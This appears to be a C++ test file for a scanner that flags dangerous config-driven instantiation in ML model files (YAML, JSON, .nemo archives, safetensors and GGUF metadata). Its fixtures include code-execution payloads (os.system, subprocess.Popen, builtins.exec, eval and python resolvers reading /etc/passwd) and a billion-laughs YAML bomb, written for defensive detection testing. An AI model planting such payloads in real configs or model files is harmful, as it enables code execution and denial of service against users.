// Config-driven instantiation: Hydra/NeMo `_target_`, LightningCLI
// `class_path` and OmegaConf resolver calls, in YAML and JSON files, in a
// .nemo tar, in safetensors __metadata__ and in GGUF metadata.
#include <gtest/gtest.h>

#include "common/rules.h"
#include "tests/support/archive_builder.h"
#include "tests/support/gguf_builder.h"
#include "tests/support/scan_assertions.h"
#include "worker/scan/file_scanner.h"

namespace gauntlet {
namespace {

using testing::Describe;
using testing::FindFinding;
using testing::HasFinding;

FileReport Scan(const std::string& bytes, std::string_view name) {
  return testing::ScanFixture(bytes, name);
}

constexpr std::string_view kNemoConfig = R"(name: ConformerCTC
sample_rate: 16000
model:
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    sample_rate: ${model.sample_rate}
  encoder:
    _target_: nemo.collections.asr.modules.ConformerEncoder
    n_layers: 2
  optim:
    name: adamw
    sched:
      _target_: torch.optim.lr_scheduler.CosineAnnealingLR
  data_dir: ${oc.env:DATA_DIR,/data}
)";

TEST(ConfigInstantiation, FrameworkTargetsAndBuiltinResolversAreClean) {
  auto report = Scan(std::string(kNemoConfig), "model_config.yaml");
  EXPECT_EQ(report.verdict, Verdict::kClean) << Describe(report);
  EXPECT_TRUE(report.findings.empty()) << Describe(report);
}

TEST(ConfigInstantiation, DeniedTargetsKeepTheirSeverityUnknownOnesAreHigh) {
  struct Case {
    std::string text;
    std::string_view name;
    Severity severity;
    std::string_view target;
  };
  const Case cases[] = {
      {"model:\n  encoder:\n    _target_: os.system\n    command: id\n", "config.yaml",
       Severity::kCritical, "os.system"},
      {"trainer:\n  callbacks:\n    - _target_: subprocess.Popen\n      args: [id]\n", "c.yml",
       Severity::kCritical, "subprocess.Popen"},
      {R"({"model": {"class_path": "builtins.exec", "init_args": {"source": "x"}}})", "config.json",
       Severity::kCritical, "builtins.exec"},
      {"_target_: torch.hub.load\nrepo: evil/repo\n", "hparams.yaml", Severity::kCritical,
       "torch.hub.load"},
      {"model:\n  _target_: mylib.models.Net\n", "config.yaml", Severity::kHigh,
       "mylib.models.Net"},
      {"_target_: transformers.AutoModel.from_pretrained\ntrust_remote_code: true\n", "config.yaml",
       Severity::kHigh, "transformers.AutoModel.from_pretrained"},
      {"_target_: torch.nn.modules.__class__.__subclasses__\n", "config.yaml", Severity::kCritical,
       "__subclasses__"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.text);
    auto report = Scan(c.text, c.name);
    const Finding* f = FindFinding(report, rules::kConfigInstantiation, c.target);
    ASSERT_NE(f, nullptr) << Describe(report);
    EXPECT_EQ(f->severity, c.severity) << Describe(report);
    EXPECT_EQ(report.verdict, Verdict::kMalicious);
  }
}

TEST(ConfigInstantiation, ResolverCallsAreJudgedByName) {
  auto eval = Scan("lr: ${eval:'__import__(\"os\").system(\"id\")'}\n", "config.yaml");
  EXPECT_TRUE(HasFinding(eval, rules::kConfigResolverCall, Severity::kCritical, Verdict::kMalicious,
                         "eval"));
  auto custom = Scan("steps: ${multiply:10,20}\n", "config.yaml");
  EXPECT_TRUE(HasFinding(custom, rules::kConfigResolverCall, Severity::kMedium,
                         Verdict::kSuspicious, "multiply"));
  auto nested = Scan("path: ${oc.env:HOME,${python:open('/etc/passwd').read()}}\n", "c.yaml");
  EXPECT_TRUE(HasFinding(nested, rules::kConfigResolverCall, Severity::kCritical,
                         Verdict::kMalicious, "python"));
}

TEST(ConfigInstantiation, NemoArchiveMemberIsChecked) {
  // A .nemo file is a tar of model_config.yaml and the weights.
  auto tar = testing::BuildTar(
      {{"./model_config.yaml", "encoder:\n  _target_: builtins.eval\n  source: '1+1'\n"},
       {"./model_weights.ckpt", std::string(64, '\0')}});
  auto report = Scan(tar, "asr.nemo");
  const Finding* f = FindFinding(report, rules::kConfigInstantiation, "builtins.eval");
  ASSERT_NE(f, nullptr) << Describe(report);
  EXPECT_EQ(f->severity, Severity::kCritical);
  EXPECT_NE(f->location.member.find("model_config.yaml"), std::string::npos);
}

TEST(ConfigInstantiation, SafetensorsAndGgufMetadataAreChecked) {
  std::string header =
      R"({"__metadata__":{"config":"{\"_target_\": \"posix.system\", \"command\": \"id\"}"},)"
      R"("w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}})";
  auto st = Scan(testing::BuildSafetensors(header, 8), "model.safetensors");
  EXPECT_TRUE(HasFinding(st, rules::kConfigInstantiation, Severity::kCritical, Verdict::kMalicious,
                         "posix.system"));

  testing::GgufBuilder gguf;
  gguf.String("general.architecture", "llama")
      .String("training.config", "optimizer:\n  _target_: mylib.Optimizer\n")
      .F32Tensor("token_embd.weight", 16, 0);
  auto report = Scan(gguf.Build(64), "model.gguf");
  EXPECT_TRUE(HasFinding(report, rules::kConfigInstantiation, Severity::kHigh, Verdict::kMalicious,
                         "mylib.Optimizer"));
}

TEST(ConfigInstantiation, ProseAndHostileYamlNeitherAlarmNorHang) {
  // A model card that mentions ${...} is prose, not a config.
  auto card =
      Scan("# Model\n\nSet `${HOME}` and run `${eval:x}` in your shell.\n\n- a\n- b: c: d\n",
           "README.md");
  EXPECT_EQ(card.verdict, Verdict::kClean) << Describe(card);

  // Billion laughs: aliases that expand exponentially.
  std::string laughs = "a: &a [\"${x:1}\", \"lol\"]\n";
  char prev = 'a';
  for (char c = 'b'; c <= 'z'; ++c, ++prev) {
    laughs += std::string(1, c) + ": &" + c + " [*" + prev + ", *" + prev + ", *" + prev + "]\n";
  }
  auto bomb = Scan(laughs, "config.yaml");
  EXPECT_EQ(bomb.verdict, Verdict::kError) << Describe(bomb);
  EXPECT_NE(FindFinding(bomb, rules::kLimitExceeded), nullptr) << Describe(bomb);

  auto deep =
      Scan("_target_: x\n" + std::string(100000, '[') + std::string(100000, ']'), "config.yaml");
  EXPECT_EQ(deep.verdict, Verdict::kError) << Describe(deep);
}

}  // namespace
}  // namespace gauntlet
